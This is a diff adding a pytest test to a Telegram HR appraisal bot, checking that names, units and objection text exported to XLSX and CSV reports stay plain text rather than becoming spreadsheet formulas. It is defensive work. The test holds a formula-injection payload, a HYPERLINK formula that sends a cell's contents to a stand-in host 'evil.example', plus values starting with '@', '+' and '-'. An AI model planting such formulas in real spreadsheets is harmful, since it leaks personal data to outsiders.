@@ -1,14 +1,21 @@
 """Appraisal results and objections through the real PTB application and the Bot API emulator."""
 
+import asyncio
+import csv
 from datetime import date
+from pathlib import Path
 
 import pytest
+from openpyxl import load_workbook
 from sqlalchemy import select
 
+from bot.cli import main
 from storage.models import AuditEntry, Objection, ObjectionState, OutboxMessage
 from storage.ratings import Rating
+from storage.services import broadcasts
 from storage.services.appraisal_import import COLUMNS, import_appraisals
 from storage.services.appraisals import ObjectionPolicy
+from storage.services.audience import Audience
 from storage.services.linking import link_without_code
 from tests.appraisal_factories import ANDI, BUDI, DEWI, RINA, SRI, add_appraisal, add_office
 
@@ -285,3 +292,44 @@ async def test_import_with_bad_rows_then_reimport_shows_the_new_result(app, emul
         (card,) = await user(emulator, ANDI).send("/nilai")
         assert f"Perilaku Kerja: {shown}" in card.text and f"Predikat Kinerja: {predikat}" in card.text
     assert [message.kind for message in await outbox(uow)] == ["appraisal.published", "appraisal.updated"]
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?d="&C2,"Bukti")'  # clicked, it would send cell C2 away
+
+
+def spreadsheet_rows(path: Path) -> list[tuple]:
+    if path.suffix == ".csv":
+        with path.open(encoding="utf-8-sig", newline="") as handle:
+            return [tuple(row) for row in csv.reader(handle, delimiter=";")]
+    return [tuple(row) for row in load_workbook(path).active.iter_rows()]
+
+
+async def test_text_people_typed_reaches_hr_spreadsheets_as_text_never_as_a_formula(
+        app, emulator, results, uow, database_url, tmp_path, monkeypatch):
+    async with uow:
+        andi = await uow.employees.by_nip(ANDI)
+        andi.name, andi.unit = "@Andi Pratama", "+Seksi Pemerintahan"
+        await uow.commit()
+    await file_objection(user(emulator, ANDI), results[1].id, HYPERLINK)  # typed on Telegram
+    async with uow:
+        broadcast = await broadcasts.publish(uow, author=None, parts=["-10% anggaran"], audience=Audience(units=(
+            "+Seksi Pemerintahan",)), ask_acknowledgement=False, actor="test")
+    monkeypatch.chdir(tmp_path)
+    monkeypatch.setenv("DATABASE_URL", database_url)
+    for suffix in (".xlsx", ".csv"):
+        objections_file, broadcast_file = tmp_path / f"keberatan{suffix}", tmp_path / f"pengumuman{suffix}"
+        assert await asyncio.to_thread(main, ["report", "objections", "--out", str(objections_file)]) == 0
+        assert await asyncio.to_thread(main, ["report", "broadcast", str(broadcast.id), "--out",
+                                              str(broadcast_file)]) == 0
+        (_, objection), (_, recipient) = spreadsheet_rows(objections_file), spreadsheet_rows(broadcast_file)
+        if suffix == ".csv":  # an apostrophe keeps a field from being run; numbers and NIPs as they are
+            assert (objection[0], objection[2], objection[3], objection[11]) == (
+                "1", ANDI, "'@Andi Pratama", "'" + HYPERLINK)
+            assert recipient[:3] == (ANDI, "'@Andi Pratama", "'+Seksi Pemerintahan")
+            continue
+        assert (objection[11].value, objection[11].data_type) == (HYPERLINK, "s")  # a string, not a formula
+        assert [(cell.value, cell.data_type) for cell in (objection[2], objection[3])] == [
+            (ANDI, "s"), ("@Andi Pratama", "s")]
+        assert (objection[0].value, objection[0].data_type) == (1, "n")  # a number stays a number
+        assert [(cell.value, cell.data_type) for cell in recipient[:3]] == [
+            (ANDI, "s"), ("@Andi Pratama", "s"), ("+Seksi Pemerintahan", "s")]
